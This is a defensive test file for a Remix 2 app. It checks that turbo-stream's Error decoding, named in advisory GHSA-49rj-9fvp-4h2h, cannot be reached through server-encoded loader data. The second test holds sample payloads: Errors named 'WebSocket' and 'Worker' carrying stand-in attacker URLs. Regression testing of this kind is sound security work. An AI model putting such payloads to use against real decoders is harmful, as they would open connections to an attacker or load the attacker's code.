/**
 * GHSA-49rj-9fvp-4h2h names React Router 7's vendored turbo-stream v2, whose
 * decoder turns a `TYPE_ERROR` entry into `new globalThis[name](message)`. The
 * standalone turbo-stream 2.4.1 that Remix 2 uses has the same decoder (the
 * first test shows it). On Remix 2 it decodes only in the browser, streams
 * this server wrote, and Remix encodes every Error through its own plugin
 * ("SanitizedError", named `Error` in production) before turbo-stream's
 * built-in Error entry is reached: no stream of ours carries a `TYPE_ERROR`
 * entry, whatever name an Error in loader data has (the second test). If a
 * Remix or turbo-stream change ever lets one through, this fails.
 */
import { ServerMode } from "@remix-run/server-runtime/dist/mode.js";
import { encodeViaTurboStream } from "@remix-run/server-runtime/dist/single-fetch.js";
import { decode } from "turbo-stream";
import { describe, expect, it } from "vitest";
import { adviseOnFailure, ADAPTER_ADVICE } from "../../test-support/guard-advice";

adviseOnFailure(ADAPTER_ADVICE("turbo-stream-errors.test.ts"));

/** An Error whose name came from the request: the decoder would construct `globalThis[name]`. */
function errorNamed(name: string, message: string): Error {
  const error = new Error(message);
  error.name = name;
  return error;
}

async function encoded(data: unknown): Promise<string> {
  const stream = encodeViaTurboStream(data, new AbortController().signal, undefined, ServerMode.Production);
  return await new Response(stream).text();
}

describe("turbo-stream's Error entries on Remix 2 (GHSA-49rj-9fvp-4h2h)", () => {
  it("turbo-stream 2.4.1's decoder constructs the global a TYPE_ERROR entry names", async () => {
    const stream = new Response('[["E","revived","TypeError"]]\n').body!;
    const { value } = await decode(stream);
    expect(value).toBeInstanceOf(TypeError);
  });

  it("Remix's production encoding never writes a TYPE_ERROR entry, for returned or deferred Errors", async () => {
    const text = await encoded({
      returned: errorNamed("WebSocket", "ws://attacker.example"),
      deferred: Promise.reject(errorNamed("Worker", "https://attacker.example/w.js")),
    });
    expect(text).not.toMatch(/\["E"/);
    expect(text).not.toContain("WebSocket");
    expect(text).not.toContain("Worker");
    expect(text).toContain("SanitizedError");
  });
});
